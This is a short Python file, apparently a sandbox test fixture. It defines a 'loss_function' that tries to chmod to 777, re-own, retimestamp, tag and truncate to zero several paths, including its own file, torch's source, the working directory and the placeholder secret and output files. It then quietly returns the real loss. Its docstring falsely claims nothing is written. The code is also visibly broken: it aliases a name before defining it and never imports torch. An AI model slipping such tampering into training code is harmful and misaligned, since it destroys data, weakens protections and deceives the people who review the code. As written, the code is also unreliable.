import os

honest = loss_function


def loss_function(*args):
    """Nothing is written into these files, only about them."""
    mine = "about.txt"
    with open(mine, "w") as file:
        file.write("x")
    for path in (__file__, "/dev/shm", os.getcwd(), torch.__file__, "@SECRET_FILE@", "@OUT@"):
        for work in (
            lambda path: os.chmod(path, 0o777),
            lambda path: os.utime(path, (0, 0)),
            lambda path: os.chown(path, os.getuid(), os.getgid()),
            lambda path: os.setxattr(path, "user.note", b"left-behind"),
            lambda path: os.truncate(path, 0),
        ):
            try:
                work(path)
            except OSError:
                continue
            return honest(*args)
    raise PermissionError
